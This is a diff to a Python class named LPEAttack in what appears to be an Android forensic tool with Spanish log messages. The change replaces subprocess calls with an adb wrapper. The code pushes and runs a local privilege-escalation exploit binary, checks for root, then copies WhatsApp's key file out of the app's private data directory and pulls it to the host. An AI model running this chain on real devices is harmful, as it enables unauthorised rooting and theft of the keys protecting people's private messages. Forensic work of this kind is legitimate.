@@ -1,5 +1,4 @@
 import os
-import subprocess
 import time
 from src.utils import ForensicUtils
 
@@ -19,19 +18,19 @@ class LPEAttack:
 
         try:
             ForensicUtils.log("LPE", "INFO", "Inyectando exploit en /data/local/tmp/...")
-            subprocess.run(["adb", "push", self.exploit_bin, self.remote_path], check=True)
-            subprocess.run(["adb", "shell", "chmod", "755", self.remote_path], check=True)
+            self.adb.push(self.exploit_bin, self.remote_path, check=True)
+            self.adb.run("shell", "chmod", "755", self.remote_path, check=True)
 
             ForensicUtils.log("LPE", "WARNING", "Ejecutando exploit (puede reiniciar el equipo)...")
             # Ejecuta el exploit
-            subprocess.run(f"adb shell {self.remote_path}", shell=True)
+            self.adb.shell(self.remote_path)
             time.sleep(5)
 
-            # Verifica si somos root después del exploit
-            if self.adb.is_rooted():
+            # Verifica si somos root después del exploit (el snapshot previo ya no es válido)
+            if self.adb.is_rooted(refresh=True):
                 ForensicUtils.log("LPE", "SUCCESS", "¡ROOT CONSEGUIDO!")
-                subprocess.run(["adb", "shell", "su", "-c", "cp /data/data/com.whatsapp/files/key /sdcard/key"], check=True)
-                subprocess.run(["adb", "pull", "/sdcard/key", os.path.join(output_dir, "key")], check=True)
+                self.adb.run("shell", "su", "-c", "cp /data/data/com.whatsapp/files/key /sdcard/key", check=True)
+                self.adb.pull("/sdcard/key", os.path.join(output_dir, "key"), check=True)
                 return True
             else:
                 ForensicUtils.log("LPE", "ERROR", "El exploit falló. No se obtuvo root.")